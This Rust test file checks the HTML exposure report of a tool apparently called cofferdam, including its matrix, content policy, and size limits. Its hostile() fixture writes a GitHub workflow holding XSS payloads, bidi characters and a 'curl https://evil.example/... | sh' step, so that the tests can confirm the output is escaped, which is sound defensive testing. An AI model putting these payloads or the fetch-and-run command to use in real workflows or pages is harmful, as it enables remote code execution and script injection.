//! `cofferdam exposure --format html`, in a real browser.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::sandbox::Sandbox;

/// Debian calls it `chromium`.
const BROWSERS: &[&str] = &["chromium", "chromium-browser", "google-chrome"];

fn page(sandbox: &Sandbox, args: &[&str]) -> String {
    let root = sandbox.root();
    let mut all = vec!["exposure", root.to_str().unwrap(), "--format", "html"];
    all.extend(args);
    let ran = sandbox.run(&all);
    assert_eq!((ran.code, ran.err.as_str()), (0, ""), "{}", ran.out);
    ran.out
}

/// The checkout of the picture in the README.
fn example() -> Sandbox {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let text = fs::read_to_string(root.join("docs/images/exposure.txtar")).unwrap();
    let sandbox = Sandbox::new();
    let mut members = text.split("\n-- ").skip(1);
    members.all(|member| {
        let (path, content) = member.split_once(" --\n").unwrap();
        sandbox.write(path, format!("{content}\n"));
        true
    });
    sandbox
}

/// A checkout whose every name and line tries to become markup or script.
fn hostile() -> Sandbox {
    let sandbox = Sandbox::new();
    let end = "</script><script>hacked=1</script><img src=x onerror=hacked=2>";
    let workflow = format!(
        "name: \"{end}\\u2028\\u202e\"\non: pull_request_target\npermissions: write-all\njobs:\n  \
        build:\n    name: \"{end}\"\n    runs-on: \"{end}\"\n    environment: \"{end}'\\\"`${{IFS}}\\u202e\\u2028\\u0007\"\n    \
        steps:\n      - uses: actions/checkout@v4\n        with: {{ref: '${{{{ github.event.pull_request.head.sha }}}}'}}\n      \
        # {end} \u{2028}\u{202e}\u{2066} ##[error]x {{{{script}}}} <!-- <script>\n      \
        - run: \"make '{end}'\\u2028\\u202e && curl https://evil.example/<b>{end} | sh\"\n        \
        env: {{KEY: \"${{{{ secrets.NPM_TOKEN }}}}\", E: \"${{{{ secrets['{end}'] }}}}\"}}\n      \
        - uses: \"acme/<img src=x onerror=hacked=3>@v1\\u202e\"\n      - run: docker push \"ghcr.io/{end}:latest\"\n"
    );
    sandbox.write(".github/workflows/ci.yml", &workflow);
    // No path separator, which a file's name cannot hold.
    let name = end.replace('/', "\\");
    sandbox.write(&format!(".github/workflows/{name}.yml"), &workflow);
    sandbox
}

/// What the matrix must show, by the other format: `newcomer, secret` to `1 2?`.
fn cells(sandbox: &Sandbox) -> BTreeMap<String, String> {
    let root = sandbox.root();
    let ran = sandbox.run(&["exposure", root.to_str().unwrap(), "--format", "json"]);
    let all: Value = serde_json::from_str(&ran.out).unwrap();
    let levels = ["reachable", "reachable-if", "after", "blocked"];
    let mut counts: BTreeMap<String, [usize; 4]> = BTreeMap::new();
    for row in all["rows"].as_array().unwrap() {
        let text = |name: &str| row[name].as_str().unwrap();
        let name = format!("{}, {}", text("from"), text("class"));
        let level = row["verdict"]["level"].as_str().unwrap();
        let level = levels.iter().position(|one| *one == level).unwrap();
        counts.entry(name).or_default()[level] += 1;
    }
    let shown = |counts: [usize; 4]| {
        let words = counts.iter().zip(["", "?", "~", "x"]);
        let words = words.filter(|(count, _)| **count > 0);
        let words: Vec<String> = words.map(|(count, mark)| format!("{count}{mark}")).collect();
        words.join(" ")
    };
    let counts = counts.into_iter();
    counts.map(|(name, counts)| (name, shown(counts))).collect()
}

fn browser() -> PathBuf {
    let path = std::env::var_os("PATH").unwrap();
    let folders: Vec<PathBuf> = std::env::split_paths(&path).collect();
    let mut all = BROWSERS
        .iter()
        .flat_map(|name| folders.iter().map(move |folder| folder.join(name)));
    let found = all.find(|program| program.is_file());
    found.expect("a Chromium is needed; on Debian `apt-get install chromium`")
}

/// No request, no message, no violation; matrix, keyboard, search, links, both
/// themes, narrow screens, hostile names, and that the policy holds.
#[test]
fn the_page_does_in_a_browser_what_it_must() {
    let (shown, attack) = (example(), hostile());
    let folder = shown.outside();
    fs::write(folder.join("page.html"), page(&shown, &[])).unwrap();
    fs::write(folder.join("hostile.html"), page(&attack, &[])).unwrap();
    let cells = serde_json::to_string(&cells(&shown)).unwrap();
    fs::write(folder.join("cells.json"), cells).unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let output = Command::new("timeout")
        .args(["300", "node"])
        .arg(root.join("tests/browser/check.mjs"))
        .arg(browser())
        .arg(&folder)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap())
        .output()
        .unwrap();
    let (out, err) = (
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr),
    );
    assert!(output.status.success(), "{out}\n{err}");
    assert_eq!(out.lines().count(), 9, "{out}");
}

#[test]
fn the_page_is_one_file_that_names_nothing_elsewhere() {
    for sandbox in [example(), hostile()] {
        let page_text = page(&sandbox, &[]);
        assert_eq!(page_text, page(&sandbox, &[]), "the same bytes");
        let (before, data) = page_text.split_once("id=\"data\">").unwrap();
        let (data, after) = data.split_once("</script>").unwrap();
        for part in ["src=", "href=", "url(", "@import", "unsafe-inline", " on"] {
            let policy_and_script = before.replace("default-src=", "");
            assert!(part == " on" || !policy_and_script.contains(part), "{part}");
        }
        assert!(!data.contains(['<', '>', '&', '\u{2028}', '\u{202e}']), "{data}");
        assert_eq!(after.matches("<script>").count(), 1);
        let value: Value = serde_json::from_str(data).unwrap();
        assert!(!value["rows"].as_array().unwrap().is_empty());
        assert!(before.contains("default-src 'none'; script-src 'sha256-"));
    }
}

#[test]
fn what_is_not_known_and_not_read_is_on_the_page() {
    let sandbox = example();
    sandbox.write(".github/workflows/broken.yml", "on: push\njobs: {a: [\n");
    let root = sandbox.root();
    let ran = sandbox.run(&["exposure", root.to_str().unwrap(), "--format", "html"]);
    assert_eq!(ran.code, 3);
    let (_, data) = ran.out.split_once("id=\"data\">").unwrap();
    let (data, _) = data.split_once("</script>").unwrap();
    let data: Value = serde_json::from_str(data).unwrap();
    let unread = data["unread"].to_string();
    assert!(unread.contains("broken.yml"), "{unread}");
    let facts = data["facts"].to_string();
    assert!(facts.contains("settings:environment:release"), "{facts}");
    assert!(facts.contains("cofferdam settings snapshot"), "{facts}");
}

/// Ways of the worst pairs of each cell; the rest is counted.
#[test]
fn a_page_of_a_large_repository_stays_small() {
    let sandbox = Sandbox::new();
    for number in 0..12 {
        let mut text = format!(
            "on: push\npermissions: write-all\njobs:\n  j{number}:\n    runs-on: ubuntu-24.04\n    steps:\n"
        );
        for step in 0..30 {
            text += &format!(
                "      - uses: owner{number}/action{step}@v1\n        with: {{key: '${{{{ secrets.S{number}_{step} }}}}'}}\n"
            );
        }
        sandbox.write(&format!(".github/workflows/w{number}.yml"), text);
    }
    let text = page(&sandbox, &[]);
    assert!(text.len() < 3_000_000, "{}", text.len());
    let (_, data) = text.split_once("id=\"data\">").unwrap();
    let (data, _) = data.split_once("</script>").unwrap();
    let data: Value = serde_json::from_str(data).unwrap();
    let shown = data["rows"].as_array().unwrap().len();
    let more = data["more"].as_array().unwrap().iter();
    let more: u64 = more.map(|one| one[3].as_u64().unwrap()).sum();
    let totals = data["totals"].as_array().unwrap().iter();
    let totals: u64 = totals.map(|one| one.as_u64().unwrap()).sum();
    assert!(shown > 1_000 && shown <= 4_000, "{shown}");
    assert!(more > 0);
    assert_eq!(shown as u64 + more, totals);
}
